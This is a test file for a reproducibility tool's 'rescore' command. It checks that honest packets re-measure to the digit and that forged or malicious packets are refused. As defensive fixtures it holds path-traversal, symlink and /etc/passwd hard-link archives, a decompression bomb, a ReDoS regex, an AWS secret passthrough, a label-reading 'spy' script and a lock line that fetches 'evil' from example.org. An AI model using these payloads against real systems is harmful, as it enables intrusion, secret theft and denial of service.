import { existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { canonicalJson, digestOf } from "../../src/core/protocol/canonical.js";
import type { Packet } from "../../src/core/protocol/packet.js";
import { commandLine, commandLineWith, driven } from "../support/drive.js";
import { Lab, proposes } from "../support/lab.js";
import { archiveOf, type Entry, entriesOf, forge, labelled, predict, predictionPacks } from "../support/packets.js";

/** Packets measured again on another machine: here, another cache and another folder, which have seen nothing of the run. */
const seed = 11;
const [sender, receiver] = [new Lab(), new Lab()];
afterAll(() => {
  sender.remove();
  receiver.remove();
});
const file = (name: string): string => join(receiver.folder, `${name}.tar.gz`);

beforeAll(async () => {
  sender.write(
    predictionPacks(seed, [
      proposes({ "main.sh": predict(400) }),
      proposes({ "main.sh": predict(395) }),
      proposes({ "main.sh": predict(800) }),
    ]),
  );
  const budget = { trials: 3, costUsd: null, tokens: null, computeMs: null, wallMs: null };
  const request = { seed, budget, organization: { name: "tree", configuration: { drafts: 50 } } };
  for (const name of ["brought", "prepared"])
    await driven(sender, [
      { do: "create", name, request: { ...request, environmentFolder: join(sender.pack, name) } },
      { do: "work", name },
    ]);
  const pack = async (run: string, name: string, ...words: string[]): Promise<void> => {
    const { code, stderr } = await commandLine(sender, "pack", run, "--out", file(name), ...words).ended;
    expect([code, stderr]).toEqual([0, words.includes("--with-data") ? expect.stringMatching(/^WARNING: it holds labels/) : ""]);
  };
  await pack("brought", "plain", "--trial", "t1");
  await pack("brought", "whole", "--trial", "t1", "--with-data");
  await pack("brought", "second", "--trial", "t2", "--with-data");
  await pack("brought", "worse", "--trial", "t3", "--with-data");
  await pack("prepared", "prepared", "--trial", "t1");
  await pack("prepared", "prepared-whole", "--trial", "t1", "--with-data");
  // Nothing of the sender is there any more.
  sender.remove();
}, 180_000);

interface Answer {
  readonly result: string;
  readonly reason: string;
  readonly sameSeeds: { readonly compared: number; readonly equal: number };
  readonly here: Record<string, { readonly result: string; readonly gain: number } | null>;
  readonly seeds: { readonly recorded: number[]; readonly fresh: number[] };
  readonly differences: string[];
  readonly measurements: unknown[];
}

async function rescore(path: string, ...words: string[]) {
  const { code, stdout, stderr } = await commandLine(receiver, "rescore", path, "--json", ...words).ended;
  return { code, stderr, answer: JSON.parse(stdout || "null") as Answer };
}

/** What a rescore may leave behind: nothing but prepared data and runtimes, which this machine made itself. */
function traces(): string[] {
  return ["environments", "scratch", "executors"].flatMap((kind) => {
    const folder = join(receiver.cache, kind);
    return existsSync(folder) ? readdirSync(folder).map((name) => `${kind}/${name}`) : [];
  });
}

describe("rescore", () => {
  it("bears out a true claim on the run's seeds, to the digit, and on fresh ones, and leaves no trace", async () => {
    const { code, answer } = await rescore(file("whole"), "--seed", "5", "--pairs", "3");
    expect([code, answer]).toEqual([
      0,
      expect.objectContaining({
        result: "reproduced",
        run: "brought",
        trial: "t1",
        sameSeeds: { compared: 4, equal: 4, largestDifference: 0 },
        here: {
          recordedSeeds: expect.objectContaining({ result: "improved", gain: 500 }),
          freshSeeds: expect.objectContaining({ result: "improved", gain: 500, seeds: 3, records: 2 }),
          overBaseline: expect.objectContaining({ gain: 500 }),
        },
      }),
    ]);
    expect(new Set([...answer.seeds.recorded, ...answer.seeds.fresh]).size).toBe(5);
    expect(answer.measurements).toHaveLength(10);
    expect((await rescore(file("whole"), "--seed", "5", "--pairs", "3")).answer.seeds).toEqual(answer.seeds);
    expect(traces()).toEqual([]);
    expect(existsSync(join(receiver.project, ".trialist"))).toBe(false);
  });

  it("says it in words", async () => {
    const { code, stdout } = await commandLine(receiver, "rescore", file("whole")).ended;
    expect([code, stdout]).toEqual([0, expect.stringMatching(/^t1 +REPRODUCED: improved there, improved here on fresh seeds\n/)]);
    expect(stdout.replaceAll(/\s+/g, " ")).toMatch(/4 of 4 values are the same to the digit/);
  });

  it("measures the leader of its time and the baseline where they are two", async () => {
    const { code, answer } = await rescore(file("second"));
    expect([code, answer.result, answer.here["freshSeeds"]?.gain, answer.here["overBaseline"]?.gain]).toEqual([0, "reproduced", 5, 505]);
    expect(answer.measurements).toHaveLength(12);
  });

  it("bears out that a trial was not better", async () => {
    const { code, answer } = await rescore(file("worse"));
    expect([code, answer.result]).toEqual([0, "reproduced"]);
  });

  it("prepares the data again, or takes what the packet holds", async () => {
    for (const name of ["prepared", "prepared-whole"]) {
      const { code, answer } = await rescore(file(name), "--pairs", "2");
      expect([name, code, answer.result, answer.sameSeeds]).toEqual([
        name,
        0,
        "reproduced",
        { compared: 4, equal: 4, largestDifference: 0 },
      ]);
      expect(answer.differences.filter((text) => text.includes("data"))).toEqual([]);
    }
  });

  it("asks for data that the packet lacks, by name, and takes no other", async () => {
    const missing = await rescore(file("plain"));
    expect([missing.code, missing.stderr]).toEqual([2, expect.stringMatching(/the data that the packet does not hold: inloop.*--data/s)]);
    const folder = join(receiver.folder, "labels");
    mkdirSync(join(folder, "inloop"), { recursive: true });
    writeFileSync(join(folder, "inloop/labels.csv"), "a,100\nb,111\n");
    const other = await rescore(file("plain"), "--data", folder);
    expect([other.code, other.stderr]).toEqual([2, expect.stringMatching(/the data that the run measured with.*other data/s)]);
    writeFileSync(join(folder, "inloop/labels.csv"), labelled["inloop/labels.csv"]);
    const given = await rescore(file("plain"), "--data", folder);
    expect([given.code, given.answer.result]).toEqual([0, "reproduced"]);
  });
});

describe("a claim that does not hold", () => {
  /** The candidate's program is another one, and everything fits: only measuring can tell. */
  function withCandidate(name: string, script: string): string {
    forge(file("whole"), file(name), { "candidate/main.sh": script }, (claims) => ({
      ...claims,
      candidates: {
        ...claims.candidates,
        candidate: {
          files: claims.candidates.candidate.files.map((each) =>
            each.path === "main.sh" ? { ...each, digest: digestOf(script), bytes: script.length } : each,
          ),
        },
      },
    }));
    return file(name);
  }

  it("is not reproduced when the candidate is worse, or fails", async () => {
    const worse = await rescore(withCandidate("forged-worse", predict(950)));
    expect([worse.code, worse.answer.result, worse.answer.reason]).toEqual([
      6,
      "not_reproduced",
      "improved there, not_improved here on fresh seeds",
    ]);
    expect(worse.answer.sameSeeds).toMatchObject({ compared: 4, equal: 2 });
    const failing = await rescore(withCandidate("forged-failing", "exit 9\n"));
    expect([failing.code, failing.answer.reason]).toEqual([
      6,
      expect.stringMatching(/the candidate ended crashed: train exited with code 9/),
    ]);
  });

  it("can be left in the middle: what ran is stopped, and nothing is kept", async () => {
    const packet = withCandidate("forged-slow", "sleep 311\n");
    const { child, ended } = commandLine(receiver, "rescore", packet);
    for (const deadline = Date.now() + 60_000; Date.now() < deadline && receiver.processes("sleep 311").length === 0; ) await sleep(50);
    child.kill("SIGINT");
    const { code, stderr } = await ended;
    expect([code, stderr]).toEqual([130, expect.stringMatching(/what ran was stopped/)]);
    expect(receiver.processes("sleep 311")).toEqual([]);
    expect(traces()).toEqual([]);
  });

  it("is undecided where the interval holds zero", async () => {
    const noisy = predict(900).replace("TRIALIST_SEED % 7", "(TRIALIST_SEED / 7 % 2) * 40 - 20");
    const { code, answer } = await rescore(withCandidate("forged-noisy", noisy), "--seed", "3", "--pairs", "4");
    expect([code, answer.result]).toEqual([7, "undecided"]);
  });

  it("is not reproduced where the same program reads a label and would send it away: the walls are the run's", async () => {
    const spy = `cat /trialist/labels/labels.csv ${receiver.cache}/scratch/*/unpacked/packet/data/inloop/labels.csv && exit 0\nexit 8\n`;
    const { code, answer } = await rescore(withCandidate("forged-spy", spy));
    expect([code, answer.reason]).toEqual([6, expect.stringMatching(/code 8/)]);
  });
});

describe("a packet that is made to do harm", () => {
  const entry = (path: string, more: Partial<Entry> = {}): Entry => ({ path, bytes: Buffer.from("harm\n"), ...more });
  const plain = (): Entry[] => entriesOf(file("whole"));
  const outside = join(receiver.folder, "outside");
  const archives: readonly [what: string, make: () => Buffer, reason: RegExp][] = [
    ["a path that leads out", () => archiveOf([entry("packet/../../../outside")]), /the path "packet\/\.\.\/\.\.\/\.\.\/outside"/],
    ["an absolute path", () => archiveOf([entry(outside)]), /the path "\//],
    ["a symbolic link", () => archiveOf([entry("packet/data", { type: "SymbolicLink", linkpath: "/etc" })]), /which is a SymbolicLink/],
    [
      "a file through a link",
      () => archiveOf([entry("packet/x", { type: "SymbolicLink", linkpath: receiver.folder }), entry("packet/x/outside")]),
      /which is a SymbolicLink/,
    ],
    ["a hard link", () => archiveOf([entry("packet/x", { type: "Link", linkpath: "/etc/passwd" })]), /which is a Link/],
    ["a device", () => archiveOf([entry("packet/x", { type: "CharacterDevice" })]), /which is a CharacterDevice/],
    ["a FIFO", () => archiveOf([entry("packet/x", { type: "FIFO" })]), /which is a FIFO/],
    ["a file twice", () => archiveOf([...plain(), entry("packet/candidate/main.sh")]), /"packet\/candidate\/main\.sh" twice/],
    ["a file where a folder is", () => archiveOf([entry("packet/x/y"), entry("packet/x")]), /"packet\/x"/],
    ["a control character in a name", () => archiveOf([entry("packet/x\u001b[2J")]), /the path "packet\/x\\u001b/],
    ["a bomb", () => archiveOf([entry("packet/x", { bytes: Buffer.alloc(300 * 2 ** 20) })]), /at most \d+ bytes unpacked; found more/],
    ["an archive in an archive", () => gzipSync(archiveOf(plain())), /a tar archive inside the gzip/],
    ["no gzip at all", () => Buffer.from("packet\n".repeat(100)), /incorrect header check/],
    ["half of a packet", () => archiveOf(plain()).subarray(0, 900), /a whole \.tar\.gz/],
    ["nothing", () => archiveOf([]), /a tar archive inside the gzip/],
    ["no packet.json", () => archiveOf([entry("packet/README.md")]), /a file packet\/packet\.json; found none/],
    [
      "other content",
      () => archiveOf(plain().map((each) => (each.path.endsWith("candidate/main.sh") ? { ...each, bytes: Buffer.from("x") } : each))),
      /"candidate\/main\.sh" with the digest/,
    ],
    [
      "a file that is not named",
      () => archiveOf([...plain(), entry("packet/stray")]),
      /files that packet\.json names; found "packet\/stray"/,
    ],
    [
      "a named file that is missing",
      () => archiveOf(plain().filter(({ path }) => !path.endsWith("evaluate.sh"))),
      /evaluate\.sh", which packet\.json names; found none/,
    ],
    [
      "a packet.json that is none",
      () => archiveOf(plain().map((each) => (each.path === "packet/packet.json" ? { ...each, bytes: Buffer.from("{}") } : each))),
      /a packet\.json as this version/,
    ],
  ];

  it.each(archives)("%s: refused, and nothing is left of it", async (_what, make, reason) => {
    writeFileSync(file("harm"), make());
    const { code, stderr, answer } = await rescore(file("harm"));
    expect([code, stderr, answer]).toEqual([5, expect.stringMatching(reason), expect.objectContaining({ error: expect.anything() })]);
    expect(traces()).toEqual([]);
    expect(existsSync(outside)).toBe(false);
  });

  /** A contract that no loader saw, with a digest that fits. */
  function withContract(
    change: (environment: Record<string, unknown>) => Record<string, unknown>,
    files: Record<string, string | null> = {},
  ): void {
    const text =
      plain()
        .find(({ path }) => path.endsWith("inventory.json"))
        ?.bytes.toString("utf8") ?? "{}";
    const inventory = JSON.parse(text) as { environment: Record<string, unknown> };
    const changed = canonicalJson({ ...inventory, environment: change(inventory.environment) });
    const digest = (claims: Packet): Packet => ({ ...claims, environment: { ...claims.environment, digest: digestOf(changed) } });
    forge(file("whole"), file("contract"), { "environment/inventory.json": changed, ...files }, digest);
  }

  const python = (lock: string) => ({ kind: "python", requires: ">=3.9", lock, lockDigest: "0".repeat(64) });
  const stages = (change: Record<string, unknown>) => (environment: Record<string, unknown>) => ({
    ...environment,
    stages: (environment["stages"] as Record<string, unknown>[]).map((each, index) => (index === 0 ? { ...each, ...change } : each)),
  });
  const contracts: readonly [
    what: string,
    change: (environment: Record<string, unknown>) => Record<string, unknown>,
    code: number,
    reason: RegExp,
  ][] = [
    ["a lock outside", (all) => ({ ...all, runtime: python("../../../../etc/passwd") }), 5, /no file of the environment has it/],
    [
      "a preparation outside",
      (all) => ({ ...all, data: { ...(all["data"] as object), prepare: "../../x.sh" } }),
      5,
      /no file of the environment has it/,
    ],
    ["labels outside", (all) => ({ ...all, data: { ...(all["data"] as object), inloop: "/etc" } }), 5, /it is absolute/],
    ["an output outside", stages({ outputs: ["../../x"] }), 5, /leads out of the folder/],
    ["a secret passed on", stages({ pass: ["AWS_SECRET_ACCESS_KEY"] }), 5, /looks like a secret's/],
    [
      "an endless pattern",
      (all) => ({
        ...all,
        metrics: [{ name: "gap", direction: "minimize", from: { kind: "stdout", stage: "train", pattern: "((a+)+)" } }],
      }),
      5,
      /repeats a repetition/,
    ],
    ["an unknown key", (all) => ({ ...all, network: true }), 5, /as this version of trialist writes it/],
    [
      "a mount of this machine",
      (all) => ({ ...all, mounts: [{ source: "/root", target: "/root", digest: "stat" }] }),
      2,
      /a contract that names "\/root".*--host-folders/s,
    ],
    ["a prefix of this machine", (all) => ({ ...all, runtime: { kind: "prefix", use: "/root" } }), 2, /a contract that names "\/root"/],
    ["a package that would be built", (all) => ({ ...all, runtime: python("evaluate.sh") }), 2, /needs? no building/],
  ];

  it.each(contracts)("%s in its contract: refused before anything of it runs", async (what, change, code, reason) => {
    if (what.startsWith("a package")) {
      const lock = "evil @ https://example.org/evil.tar.gz --hash=sha256:00\n";
      const fit = (all: Record<string, unknown>) => change(all);
      withContract(fit, {});
      const entries = entriesOf(file("contract"));
      const text = entries.find(({ path }) => path.endsWith("inventory.json"))?.bytes.toString("utf8") ?? "{}";
      const inventory = JSON.parse(text) as { files: { path: string }[] };
      const changed = canonicalJson({
        ...inventory,
        files: inventory.files.map((each) =>
          each.path === "evaluate.sh" ? { ...each, bytes: lock.length, digest: digestOf(lock) } : each,
        ),
      });
      forge(
        file("contract"),
        file("contract"),
        { "environment/inventory.json": changed, "environment/pack/evaluate.sh": lock },
        (claims) => ({
          ...claims,
          environment: { ...claims.environment, digest: digestOf(changed) },
        }),
      );
    } else withContract(change);
    const found = await rescore(file("contract"));
    expect([what, found.code, found.stderr]).toEqual([what, code, expect.stringMatching(reason)]);
    expect(traces()).toEqual([]);
  });

  it("an inventory with another digest, and files of the environment that differ: refused", async () => {
    forge(file("whole"), file("digest"), { "environment/inventory.json": "{}" });
    expect(await rescore(file("digest"))).toMatchObject({ code: 5, stderr: expect.stringMatching(/an inventory with the digest/) });
    forge(file("whole"), file("digest"), { "environment/pack/evaluate.sh": "echo 1\n" });
    expect(await rescore(file("digest"))).toMatchObject({ code: 5, stderr: expect.stringMatching(/evaluate\.sh has other content/) });
    expect(traces()).toEqual([]);
  });

  it("a path that is no packet, a folder, and options that make no sense: refused", async () => {
    const missing = await rescore(join(dirname(file("x")), "none"));
    expect([missing.code, missing.stderr]).toEqual([2, expect.stringContaining("no file of that name")]);
    expect((await rescore(receiver.project)).code).toBe(2);
    expect((await rescore(file("whole"), "--pairs", "0")).code).toBe(2);
    expect((await commandLineWith(receiver, {}, "rescore").ended).code).toBe(2);
  });
});
